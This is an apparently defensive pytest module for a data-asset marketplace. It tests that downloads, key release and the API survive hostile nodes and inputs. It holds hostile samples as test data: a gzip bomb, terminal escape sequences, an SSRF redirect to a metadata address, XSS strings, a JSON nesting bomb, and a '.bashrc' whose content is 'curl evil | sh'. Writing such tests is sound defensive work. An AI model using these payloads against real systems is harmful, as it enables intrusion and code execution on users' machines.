"""A hostile asset owner's node, hostile manifests and hostile requesters, against the holder's `get`, the
owner's key release and the compute API (the embedded chain, real HTTP servers on 127.0.0.1).

A node that drips its answer, compresses it into a bomb, sends terminal escapes, or names two files with
the same bytes; a download into a directory that already holds a file of the same name; strangers posting
signed requests; a compute request whose parameters overflow: each ends in a one-line error within a
bound (or succeeds when it should), with nothing written and nothing lost."""

from __future__ import annotations

import gzip
import json
import secrets
import socket
import sqlite3
import threading
import time
import tracemalloc
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import schemathesis
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, settings
from schemathesis import checks as st_checks

from proofwork.api.v1 import create_app
from proofwork.domain.asset_access import CLOCK_SKEW, MAX_LIFETIME
from proofwork.domain.errors import InvalidInput, ProofworkError
from proofwork.keys.accounts import address_of
from proofwork.network import asset_keys as net
from proofwork.sdk import Signer
from proofwork.services import asset_access
from proofwork.storage.unixfs import cid_of_bytes
from tests.integration import test_asset_access as access
from tests.integration.conftest import DAY, Market
from tests.integration.test_asset_access import Sold

CID = cid_of_bytes(b"x")
access_market = access.access_market  # the deployed market, once per module
am = access.am  # a chain snapshot of it per test


# ---------------------------------------------------------------- a node that misbehaves on the wire


@contextmanager
def raw_node(answer: bytes, *, drip: float = 0.0, for_seconds: float = 8.0) -> Iterator[str]:
    """A TCP server answering every connection with `answer`, one byte every `drip` seconds when
    `drip` is set (for at most `for_seconds`), then closing."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve_one(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(1.0)
            try:
                conn.recv(65536)
                if not drip:
                    conn.sendall(answer)
                    return
                started = time.monotonic()
                for i in range(len(answer)):
                    if stop.is_set() or time.monotonic() - started > for_seconds:
                        return
                    conn.sendall(answer[i : i + 1])
                    time.sleep(drip)
            except OSError:
                return

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            threading.Thread(target=serve_one, args=(conn,), daemon=True).start()

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.getsockname()[1]}"
    finally:
        stop.set()
        thread.join(5)
        server.close()


def _http(status: str, body: bytes, *headers: str) -> bytes:
    head = [f"HTTP/1.1 {status}", f"content-length: {len(body)}", "connection: close", *headers]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def test_a_node_dripping_its_key_answer_is_cut_off_at_the_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(net, "KEY_DEADLINE", 1.0, raising=False)
    body = b'{"sealed_key": null}' + b" " * 200
    with raw_node(_http("200 OK", body, "content-type: application/json"), drip=0.05) as url:
        started = time.monotonic()
        with pytest.raises(net.NodeUnavailable) as refused:
            net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
        elapsed = time.monotonic() - started
    assert elapsed < 4.0, f"a dripping node held the holder for {elapsed:.1f} s"
    assert "\n" not in str(refused.value)


def test_a_node_dripping_a_file_is_cut_off_at_the_deadline(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(net, "MIN_BYTES_PER_SECOND", 1 << 30, raising=False)
    monkeypatch.setattr(net, "FILE_DEADLINE", 1.0, raising=False)
    with raw_node(_http("200 OK", b"y" * 1000), drip=0.02) as url:
        started = time.monotonic()
        with pytest.raises(net.NodeUnavailable):
            net.download_artifact(url, CID, tmp_path / "f", 1000)
        elapsed = time.monotonic() - started
    assert elapsed < 4.0, f"a dripping node held the download for {elapsed:.1f} s"
    assert list(tmp_path.iterdir()) == []


def test_a_compressed_answer_is_not_inflated(tmp_path: Path) -> None:
    """The node's bytes are what the limits count: a gzip bomb is read as the few bytes it is (and then
    fails its CID or its JSON), never expanded in memory."""
    bomb = gzip.compress(b"\x00" * (64 << 20), compresslevel=9)  # 64 MiB in about 64 KiB
    assert len(bomb) < net.MAX_ANSWER_BYTES * 2
    answer = _http("200 OK", bomb, "content-encoding: gzip", "content-type: application/json")
    with raw_node(answer) as url:
        tracemalloc.start()
        try:
            with pytest.raises(ProofworkError) as refused:
                net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
            with pytest.raises(ProofworkError):
                net.download_artifact(url, CID, tmp_path / "f", 1 << 30)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert peak < 16 << 20, f"the answer was inflated: {peak >> 20} MiB at the peak"
    assert "\n" not in str(refused.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "answer",
    [
        _http("200 OK", b"not json"),
        _http("200 OK", b'{"sealed_key": "%%%"}'),
        _http("200 OK", b"[" * 5000 + b"]" * 5000),
        _http("500 Internal Server Error", b'{"error": {"code": "licence_revoked", "message": "\\n\\n"}}'),
        _http("403 Forbidden", b'{"error": {"code": ' + b'"x"' * 10 + b"}}"),
        _http("302 Found", b"", "location: http://169.254.169.254/"),
        _http("200 OK", b'{"sealed_key": "' + b"A" * 70_000 + b'"}'),
        b"garbage, not HTTP\r\n\r\n",
    ],
)
def test_garbage_from_the_node_is_a_one_line_error(answer: bytes) -> None:
    with raw_node(answer) as url, pytest.raises(ProofworkError) as refused:
        net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
    assert "\n" not in str(refused.value)


def test_a_nodes_error_message_cannot_drive_the_terminal() -> None:
    """A node's message reaches the user's terminal: no escape sequence, no newline, bounded."""
    from proofwork.network.compute_node import NodeRefused, post_compute

    body = b'{"error": {"code": "model_refused\\u001b[2J", "message": "\\u001b]0;owned\\u0007 x\\r\\ny"}}'
    for call in (
        lambda url: net.request_sealed_key(url, {"x": 1}, b"\x00" * 65),
        lambda url: post_compute(url, {"x": 1}),
    ):
        answer = _http("403 Forbidden", body, "content-type: application/json")
        with raw_node(answer) as url, pytest.raises(ProofworkError) as refused:
            call(url)
        text = str(refused.value)
        assert text.isprintable() and "\x1b" not in text, repr(text)
        if isinstance(refused.value, NodeRefused):
            assert refused.value.code.isprintable()


# ---------------------------------------------------------------- the holder's get and the owner's node


def _sell(
    am: Market, files: dict[str, bytes], tmp_path: Path, *, encrypt: bool, kind: str = "download"
) -> Sold:
    src = tmp_path / "src"
    src.mkdir(exist_ok=True)
    paths = []
    for name, data in files.items():
        (src / name).write_bytes(data)
        paths.append(src / name)
    assets = am.pw.assets
    manifest, key = assets.manifest(paths, kind="dataset", name="d", license="MIT", encrypt=encrypt)
    done = assets.register(am.freelancer, manifest, key=key)
    offer = assets.offer(am.freelancer, done.asset_id, price=am.pw.amount("1"), term_seconds=DAY, kind=kind)
    return Sold(done.asset_id, done.manifest_cid, assets.buy(am.client, offer), am.freelancer, am.client)


@pytest.mark.parametrize("encrypt", [False, True])
def test_two_files_with_the_same_bytes_are_both_written(am: Market, tmp_path: Path, encrypt: bool) -> None:
    """Two names, one content (one CID when stored plain): each name gets the content."""
    sold = _sell(am, {"a.csv": b"same\n", "b.csv": b"same\n", "c.csv": b"other\n"}, tmp_path, encrypt=encrypt)
    out = tmp_path / "out"
    out.mkdir()
    am.pw.assets.get(sold.holder, sold.licence_id, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == {
        "a.csv": b"same\n",
        "b.csv": b"same\n",
        "c.csv": b"other\n",
    }


def test_get_never_replaces_a_file_the_user_has(am: Market, tmp_path: Path) -> None:
    """A manifest names its files (an owner may name one `.bashrc`); `get --out ~` must not replace the
    user's own: an existing file of another content refuses the whole download, nothing written; a file
    already holding exactly the asset's bytes is fine (a second `get` into the same directory)."""
    sold = _sell(am, {".bashrc": b"curl evil | sh\n", "data.csv": b"1,2\n"}, tmp_path, encrypt=True)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"# mine\n")
    with pytest.raises(InvalidInput) as refused:
        am.pw.assets.get(sold.holder, sold.licence_id, home)
    assert ".bashrc" in str(refused.value) and "nothing was written" in str(refused.value)
    assert "\n" not in str(refused.value)
    assert {p.name: p.read_bytes() for p in home.iterdir()} == {".bashrc": b"# mine\n"}
    # a symlink in the way is not followed nor replaced either
    (home / ".bashrc").unlink()
    (home / ".bashrc").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(InvalidInput):
        am.pw.assets.get(sold.holder, sold.licence_id, home)
    assert (home / ".bashrc").is_symlink() and not (tmp_path / "elsewhere").exists()
    # the same bytes already there: a repeated get succeeds
    out = tmp_path / "out"
    out.mkdir()
    am.pw.assets.get(sold.holder, sold.licence_id, out)
    am.pw.assets.get(sold.holder, sold.licence_id, out)
    assert sorted(p.name for p in out.iterdir()) == [".bashrc", "data.csv"]


def test_strangers_requests_are_forgotten_once_expired(am: Market, tmp_path: Path) -> None:
    """Anyone can sign a request with a fresh key, and every signed request is recorded before the chain
    is asked (a refused one is used up too): the table is bounded by time, each row is dropped once its
    request expires (at most MAX_LIFETIME + CLOCK_SKEW seconds), on the next request served."""
    sold = _sell(am, {"data.csv": b"1,2\n"}, tmp_path, encrypt=True)
    ws = am.pw.ws
    now = int(time.time())
    before = _used_count(ws)
    for _ in range(20):
        key = secrets.token_bytes(32)
        stranger = Signer("stranger", address_of(key), key)
        request, signature = asset_access.key_request(ws, stranger, sold.licence_id, now=now)
        with pytest.raises(asset_access.KeyRequestRefused) as refused:
            asset_access.release_key(ws, request, signature, now=now)
        assert refused.value.reason == "not_licence_holder"
        with pytest.raises(asset_access.KeyRequestRefused) as replay:
            asset_access.release_key(ws, request, signature, now=now)
        assert replay.value.reason == "key_request_replayed"
    assert _used_count(ws) == before + 20
    later = now + MAX_LIFETIME + CLOCK_SKEW + 1
    request, signature = asset_access.key_request(ws, sold.holder, sold.licence_id, now=later)
    asset_access.release_key(ws, request, signature, now=later)
    assert _used_count(ws, expired_at=later) == 0 and _used_count(ws) >= 1


def _used_count(ws: object, expired_at: int | None = None) -> int:
    db = asset_access._used_requests_path(ws)  # type: ignore[arg-type]
    if not db.exists():
        return 0
    query = "select count(*) from used_key_requests" + (" where expires < ?" if expired_at else "")
    with closing(sqlite3.connect(db)) as conn:
        return int(conn.execute(query, (expired_at,) if expired_at else ()).fetchone()[0])


def test_a_compute_request_with_an_overflowing_parameter_is_a_400(am: Market) -> None:
    ws = am.pw.ws
    app = create_app(replace(ws.settings, api_rate_limit=100_000, api_domain="testserver"), ws)
    request = {
        "chain_id": ws.chain_id,
        "licensing": ws.licensing.address,
        "licence_id": 1,
        "task": "gradient_boosting",
        "model_cid": "",
        "params": '{"label_column":"y","n_estimators":' + "9" * 400 + "}",
        "nonce": "0x" + "00" * 32,
        "expires_at": ws.chain.now() + 60,
        "signature": "0x" + "00" * 65,
    }
    answer = TestClient(app).post("/api/v1/assets/compute", json={"request": request})
    assert answer.status_code == 400, answer.text
    assert answer.json()["error"]["code"] == "request_malformed"


def test_a_compute_offer_on_files_stored_in_the_clear_is_refused(am: Market, tmp_path: Path) -> None:
    """A compute licence promises that the data never leaves the owner's node; but a file stored in the
    clear is served to anyone by `GET /api/v1/artifacts/{cid}` (its CID is in the public manifest). The
    owner is told before any offer is made; an encrypted dataset takes compute offers."""
    ws, assets = am.pw.ws, am.pw.assets
    src = tmp_path / "rows.csv"
    src.write_bytes(b"id,secret\n1,private\n")
    manifest, key = assets.manifest([src], kind="dataset", name="plain", license="MIT", encrypt=False)
    plain = assets.register(am.freelancer, manifest, key=key)
    app = create_app(replace(ws.settings, api_rate_limit=100_000, api_domain="testserver"), ws)
    leaked = TestClient(app).get(f"/api/v1/artifacts/{manifest.files[0].cid}")
    assert leaked.status_code == 200 and b"private" in leaked.content  # why the offer is refused
    with pytest.raises(InvalidInput, match="stored in the clear") as refused:
        assets.offer(am.freelancer, plain.asset_id, price=am.pw.amount("1"), kind="compute")
    assert "\n" not in str(refused.value)
    assets.offer(am.freelancer, plain.asset_id, price=am.pw.amount("1"), kind="download")
    manifest, key = assets.manifest([src], kind="dataset", name="sealed", license="MIT", encrypt=True)
    sealed = assets.register(am.freelancer, manifest, key=key)
    assets.offer(am.freelancer, sealed.asset_id, price=am.pw.amount("1"), kind="compute")


BIG = str(2**256 - 1)
HUGE = "9" * 78
HOSTILE_API = [
    "/api/v1/assets?cursor=" + HUGE,
    "/api/v1/assets?cursor=" + BIG,
    "/api/v1/assets?cursor=0",
    "/api/v1/assets?owner=0x" + "0" * 40,
    "/api/v1/assets?creator=0xZZ",
    "/api/v1/assets?limit=0",
    "/api/v1/assets?limit=" + HUGE,
    "/api/v1/assets/" + BIG,
    "/api/v1/assets/" + str(2**63),
    "/api/v1/assets/" + HUGE,
    "/api/v1/assets/-1",
    "/api/v1/assets/1e3",
    "/api/v1/assets/" + BIG + "/lineage?format=prov",
    "/api/v1/assets/" + str(2**63) + "/offers",
    "/api/v1/licences?cursor=" + HUGE,
    "/api/v1/licences?asset=" + BIG,
    "/api/v1/licences?asset=" + str(2**63),
    "/api/v1/licences?holder=0x" + "ab" * 20,
    "/api/v1/licences/" + BIG,
    "/api/v1/licences/" + str(2**63),
    "/api/v1/offers/" + BIG + "/purchase",
]
HOSTILE_WEB = [
    "/assets?before=" + HUGE,
    "/assets?before=" + str(2**63),
    "/assets?before=-5",
    "/assets?kind=%00&owner=%3Cscript%3E",
    "/assets/" + BIG,
    "/assets/" + str(2**63),
    "/assets/" + HUGE,
    "/assets/%F0%9F%92%A3",
    "/assets/" + str(2**63) + "/lineage.json",
    "/assets/" + HUGE + "/lineage.json",
    "/licences?before=" + HUGE,
    "/licences?asset=" + str(2**63),
    "/licences?asset=" + HUGE + "&holder=%3Cscript%3E",
    "/licences/" + BIG,
    "/licences/" + str(2**63),
    "/licences/1e400",
]


def _servers(am: Market, tmp_path: Path, *, indexed: bool) -> tuple[TestClient, TestClient]:
    """The REST API and the web app over the market, reading from a caught-up index when `indexed`."""
    from contextlib import nullcontext

    from proofwork.db.index import IndexStore
    from proofwork.services.indexer import Indexer
    from proofwork.web.app import create_web_app

    ws = am.pw.ws
    settings = replace(ws.settings, api_rate_limit=100_000, api_domain="testserver")
    if indexed:
        where = tmp_path / "index.sqlite3"
        with IndexStore.open(where) as store:
            Indexer(ws, store).run_once()
        settings = replace(settings, index_db=str(where))
    return TestClient(create_app(settings, ws)), TestClient(create_web_app(lambda: nullcontext(ws), settings))


@pytest.mark.parametrize("indexed", [False, True])
def test_hostile_ids_and_cursors_get_a_4xx_never_a_5xx(am: Market, tmp_path: Path, indexed: bool) -> None:
    sold = _sell(am, {"data.csv": b"1,2\n"}, tmp_path, encrypt=True)
    api, web = _servers(am, tmp_path, indexed=indexed)
    assert api.get(f"/api/v1/assets/{sold.asset_id}").status_code == 200
    assert web.get(f"/assets/{sold.asset_id}").status_code == 200
    for url in HOSTILE_API:
        answer = api.request("POST" if url.endswith("purchase") else "GET", url)
        assert answer.status_code < 500, (url, answer.status_code, answer.text[:300])
        assert answer.status_code == 200 or "error" in answer.json(), url
    for url in HOSTILE_WEB:
        answer = web.get(url)
        assert answer.status_code < 500, (url, answer.status_code, answer.text[:300])
        assert "<script>" not in answer.text, url


def test_manifest_text_is_escaped_in_the_web_pages(am: Market, tmp_path: Path) -> None:
    """An owner writes the asset's name, description and file names: markup in them is shown as text."""
    from contextlib import nullcontext

    from proofwork.web.app import create_web_app

    src = tmp_path / "src"
    src.mkdir()
    evil = src / '<img src=x onerror="alert(1)">.csv'
    evil.write_bytes(b"1,2\n")
    assets = am.pw.assets
    manifest, key = assets.manifest(
        [evil],
        kind="dataset",
        name="<script>alert(1)</script>",
        description='javascript:alert(1) <a href="javascript:alert(1)">x</a>',
        license="MIT",
    )
    done = assets.register(am.freelancer, manifest, key=key)
    ws = am.pw.ws
    web = TestClient(create_web_app(lambda: nullcontext(ws), ws.settings))
    for url in (f"/assets/{done.asset_id}", "/assets"):
        page = web.get(url)
        assert page.status_code == 200, url
        assert "<script>alert(1)" not in page.text and "<img src=x" not in page.text, url
        assert 'href="javascript:' not in page.text, url
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in web.get(f"/assets/{done.asset_id}").text


def test_a_node_sending_a_key_that_does_not_open_the_files_writes_nothing(am: Market, tmp_path: Path) -> None:
    """The owner's node seals some other key to the holder (or a key sealed to someone else, or no key):
    refused with one line, nothing written, no staging left behind."""
    import base64

    import httpx

    from proofwork.keys.asset_keys import new_asset_key, seal_key_for
    from proofwork.keys.sealing import public_key_of

    sold = _sell(am, {"data.csv": b"1,2\n" * 100}, tmp_path, encrypt=True)
    ws = am.pw.ws
    real = TestClient(create_app(replace(ws.settings, api_rate_limit=100_000, api_domain="testserver"), ws))
    stranger = secrets.token_bytes(32)
    answers = {
        "another key": seal_key_for(new_asset_key(), public_key_of(sold.holder.key)),
        "sealed to someone else": seal_key_for(new_asset_key(), public_key_of(stranger)),
        "not an envelope": b"garbage",
        "no key": None,
    }
    for what, sealed in answers.items():

        def lying(request: httpx.Request, sealed: bytes | None = sealed) -> httpx.Response:
            if request.method == "POST":
                key = None if sealed is None else base64.b64encode(sealed).decode()
                return httpx.Response(200, json={"sealed_key": key})
            answer = real.get(request.url.path)  # the files themselves, from the real node
            return httpx.Response(answer.status_code, content=answer.content)

        out = tmp_path / what.replace(" ", "-")
        out.mkdir()
        node = httpx.Client(transport=httpx.MockTransport(lying), base_url="http://node.example")
        with pytest.raises(ProofworkError) as refused:
            asset_access.get(ws, sold.holder, sold.licence_id, out, node="http://node.example", http=node)
        assert "\n" not in str(refused.value), what
        assert list(out.iterdir()) == [], what


def test_a_compute_run_does_not_hold_the_node_api(
    am: Market, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A compute licence's holder makes the owner's node run the sandbox for up to its wall-clock limit
    (twice for a recipe), request after request: the rest of the API (key releases, lists, the holders of
    other licences) answers meanwhile. The sandbox's jobs are made to wait until the node answered another
    request; a node holding its workspace through the run would not."""
    import threading as th

    from proofwork.evaluation import sandbox as sb
    from proofwork.services import compute_to_data as c2d
    from tests.integration.test_compute_to_data import _dataset, logistic_model

    running, answered = th.Event(), th.Event()

    class WaitingSandbox(sb.Sandbox):
        def run(self, *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
            running.set()
            answered.wait(10)
            return super().run(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(sb, "Sandbox", WaitingSandbox)
    path, x, y = _dataset(tmp_path)
    assets, ws = am.pw.assets, am.pw.ws
    manifest, key = assets.manifest([path], kind="dataset", name="private", license="MIT", encrypt=True)
    dataset = assets.register(am.freelancer, manifest, key=key)
    offer = assets.offer(
        am.freelancer, dataset.asset_id, price=am.pw.amount("1"), term_seconds=DAY, kind="compute"
    )
    licence = assets.buy(am.client, offer)
    model = logistic_model(x, y)
    request = c2d.make_request(
        ws,
        am.client,
        licence,
        model=model,
        params={"label_column": "label", "metric": "accuracy", "output": "label"},
    )
    app = create_app(replace(ws.settings, api_rate_limit=100_000, api_domain="testserver"), ws)
    answers: list[object] = []

    def post() -> None:
        body = {"request": request.to_json(), "model": c2d.encode_model(model)}
        answers.append(TestClient(app).post("/api/v1/assets/compute", json=body))

    poster = th.Thread(target=post)
    poster.start()
    try:
        assert running.wait(60), "the sandbox never started"
        started = time.monotonic()
        listed = TestClient(app).get(f"/api/v1/assets/{dataset.asset_id}")
        waited = time.monotonic() - started
        answered.set()
    finally:
        answered.set()
        poster.join(120)
        node = getattr(app.state, "compute_node", None)
        if node is not None:
            node.close()
    assert listed.status_code == 200
    assert waited < 5, f"the API waited {waited:.1f} s for a compute run"
    done = answers[0]
    assert done.status_code == 200, done.text  # type: ignore[attr-defined]
    result = c2d.ComputeResult.from_json(done.json()["result"])  # type: ignore[attr-defined]
    assert c2d.verify_result(ws, request, result) == am.freelancer.address


DEEP_PROBE = """
import json, pathlib, sys, tempfile
import web3  # noqa: F401  (raises the recursion limit, as in a serving process)
from fastapi.testclient import TestClient
from proofwork.api.v1 import create_app
from proofwork.settings import Settings
app = create_app(Settings(data_dir=pathlib.Path(tempfile.mkdtemp())))
body = b'{"request":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
for path in sys.argv[1:]:
    answer = TestClient(app).post(path, content=body, headers={"content-type": "application/json"})
    print(json.dumps([path, answer.status_code, answer.json()["error"]["code"]]), flush=True)
"""


def test_a_json_nesting_bomb_to_an_asset_route_is_a_400_not_a_dead_server() -> None:
    """200 kB of `[` (under the body limit) overflows the C stack in `json.loads` and kills the server,
    embedded chain included, with no session needed, unless the route checks nesting first. Run in a
    child process: a crash is its exit status, not this test run's."""
    import subprocess
    import sys

    paths = [
        "/api/v1/assets/compute",
        "/api/v1/asset-keys",
        "/api/v1/asset-keys/typed-data",
        "/api/v1/offers/1/purchase",
    ]
    done = subprocess.run(
        [sys.executable, "-c", DEEP_PROBE, *paths], capture_output=True, text=True, timeout=300, check=False
    )
    assert done.returncode == 0, f"the API process died ({done.returncode}) after {done.stdout!r}"
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert answers == [[path, 400, "malformed_json"] for path in paths]


# ---------------------------------------------------------------- Schemathesis on the asset operations


@pytest.fixture(scope="module")
def asset_schema_app(access_market: Market, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Assets, offers and licences of every kind on the module's chain, then the API over them (this
    test runs last in the module: the examples write to its chain)."""
    m, assets = access_market, access_market.pw.assets
    src = tmp_path_factory.mktemp("schema")
    (src / "rows.csv").write_bytes(b"x,label\n1,0\n2,1\n")
    manifest, key = assets.manifest([src / "rows.csv"], kind="dataset", name="d", license="MIT", encrypt=True)
    dataset = assets.register(m.freelancer, manifest, key=key).asset_id
    for kind in ("download", "compute"):
        offer = assets.offer(m.freelancer, dataset, price=m.pw.amount("1"), term_seconds=DAY, kind=kind)
        assets.buy(m.client, offer)
    settings = replace(m.pw.ws.settings, api_rate_limit=1_000_000, api_domain="testserver")
    return create_app(settings, m.pw.ws)


@pytest.fixture(scope="module")
def asset_schema(asset_schema_app: Any) -> Any:
    return schemathesis.openapi.from_asgi("/api/v1/openapi.json", asset_schema_app)


asset_operations = schemathesis.pytest.from_fixture("asset_schema").include(
    path_regex=r"^/api/v1/(assets|asset-keys|licences|offers)"
)


@pytest.mark.ignore_isolation  # titanoboa's anchors do not nest across Schemathesis' subtests
@asset_operations.parametrize()
@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
def test_schemathesis_asset_operations_never_answer_5xx(case: Any) -> None:
    """Every asset operation (lists, an asset, lineage, offers, licences, purchase, key release, compute)
    with generated input, over deployed assets with download and compute licences: no 5xx, and every
    status and body as documented."""
    case.call_and_validate(
        checks=[
            st_checks.not_a_server_error,
            st_checks.status_code_conformance,
            st_checks.content_type_conformance,
            st_checks.response_schema_conformance,
        ]
    )


def test_a_recipe_result_naming_an_unknown_metric_is_refused(am: Market, tmp_path: Path) -> None:
    """The owner signs the result, but the owner is the party the holder does not trust: a recipe's
    result whose metric is not one of the evaluation's (here a terminal escape the CLI would print) is
    refused before anything is shown."""
    from proofwork.chain import compute_messages as msg
    from proofwork.services import compute_to_data as c2d

    sold = _sell(am, {"rows.csv": b"x,label\n1,0\n2,1\n"}, tmp_path, encrypt=True, kind="compute")
    ws = am.pw.ws
    request = c2d.make_request(
        ws, sold.holder, sold.licence_id, task="logistic_regression", params={"label_column": "label"}
    )
    digest = msg.message_hash(request.chain_id, request.licensing, "ComputeRequest", request.message())
    model = ws.store.add_bytes(b"not really a model")
    for metric in ("\x1b]0;owned\x07", "accuracy"):
        unsigned = c2d.ComputeResult(
            request.chain_id, request.licensing, sold.licence_id, sold.asset_id, sold.manifest, digest,
            request.task, model, bytes(32), metric, 1, 2, sold.owner.address, b"",
        )  # fmt: skip
        signature = msg.sign(
            sold.owner.key, unsigned.chain_id, unsigned.licensing, "ComputeResult", unsigned.message()
        )
        result = replace(unsigned, signature=signature)
        if metric == "accuracy":
            assert c2d.verify_result(ws, request, result) == sold.owner.address
            continue
        with pytest.raises(c2d.ComputeRefused) as refused:
            c2d.verify_result(ws, request, result)
        assert refused.value.reason == "bad_result" and str(refused.value).isprintable()


def test_rich_markup_in_an_owners_names_is_printed_as_text(tmp_path: Path) -> None:
    """The CLI prints what the owner named (the asset, its files) through Rich: `[/]` would end the
    command with an error after the files were written, and `[link=...]` would print a hidden link."""
    from tests.e2e.conftest import Cli

    cli = Cli(tmp_path / "data")
    cli.ok("deploy")
    cli.ok("account", "fund", "dev1", "--amount", "100")
    cli.ok("asset", "deploy")
    src = tmp_path / "src"
    src.mkdir()
    (src / "[red]rows.csv").write_bytes(b"1,2\n")
    (src / "[link=https:evil.example]x.csv").write_bytes(b"3,4\n")
    name = "[link=https://evil.example]clinic[/link] [/]"
    asset = cli.ok(
        "asset", "register", *(str(p) for p in sorted(src.iterdir())), "--name", name, "--kind", "dataset",
        "--license", "MIT", "--from", "dev2", "--encrypt", "--json",
    ).json()["asset_id"]  # fmt: skip
    shown = cli.ok("asset", "show", str(asset)).out
    assert name in shown and "\x1b" not in shown
    assert name in cli.ok("asset", "lineage", str(asset)).out
    offer = cli.ok("asset", "offer", str(asset), "--price", "1", "--from", "dev2", "--json").json()[
        "offer_id"
    ]
    licence = cli.ok("asset", "buy", str(offer), "--from", "dev1", "--json").json()["licence_id"]
    out = tmp_path / "out"
    out.mkdir()
    got = cli.ok("asset", "get", str(licence), "--from", "dev1", "--out", str(out)).out
    assert (
        f"wrote {out / '[red]rows.csv'}" in got and f"wrote {out / '[link=https:evil.example]x.csv'}" in got
    )
    # terms an owner stored past the SDK: a terminal escape and a closing tag, shown as text
    from proofwork.sdk import Proofwork

    with Proofwork.open(cli.data_dir) as pw:
        _raw_offer(pw.ws, pw.signer("dev2").key, asset, HOSTILE_TERMS[1])
    licence = cli.ok("asset", "buy", str(offer + 1), "--from", "dev1", "--json").json()["licence_id"]
    shown = cli.ok("license", "show", str(licence)).out
    assert "[/]" in shown and "\x1b" not in shown and "\x9b" not in shown


def _raw_offer(ws: Any, key: bytes, asset_id: int, terms: bytes) -> None:
    """An offer sent by the owner past the SDK: `terms_cid` is whatever bytes the contract stores
    (a `String[128]` is not checked to be UTF-8, a CID, or printable)."""
    from eth_abi import encode
    from eth_utils import keccak

    chain = ws.chain
    selector = keccak(b"offer(uint256,address,uint256,uint64,bool,uint8,bool,bool,string,uint256)")[:4]
    types = ["uint256", "address", "uint256", "uint64", "bool", "uint8", "bool", "bool", "bytes", "uint256"]
    args = [asset_id, ws.token.address, 1, 0, False, 0, False, False, terms, 0]
    data = selector + encode(types, args)  # a `bytes` is laid out as a `string`

    def build(base: dict[str, Any]) -> dict[str, Any]:
        tx = {**base, "to": ws.licensing.address, "data": data, "value": 0}
        tx["gas"] = chain.web3.eth.estimate_gas(tx)
        return {**tx, **chain._offer()}

    chain._send(key, build)


HOSTILE_TERMS = (b"\xff\xfe not utf-8", b"\x1b]8;;https://evil.example\x1b\\[/] \xc2\x9b2J")


@pytest.mark.parametrize("indexed", [False, True])
def test_an_offer_whose_terms_are_not_text_breaks_no_page(am: Market, tmp_path: Path, indexed: bool) -> None:
    sold = _sell(am, {"data.csv": b"1,2\n"}, tmp_path, encrypt=True)
    for terms in HOSTILE_TERMS:
        _raw_offer(am.pw.ws, am.freelancer.key, sold.asset_id, terms)
    api, web = _servers(am, tmp_path, indexed=indexed)
    for url in (
        f"/api/v1/assets/{sold.asset_id}",
        f"/api/v1/assets/{sold.asset_id}/offers",
        "/api/v1/assets",
    ):
        answer = api.get(url)
        assert answer.status_code == 200, (url, answer.text[:300])
    for url in (f"/assets/{sold.asset_id}", "/assets"):
        answer = web.get(url)
        assert answer.status_code == 200, (url, answer.text[:300])  # the text autoescaped, bytes as they are
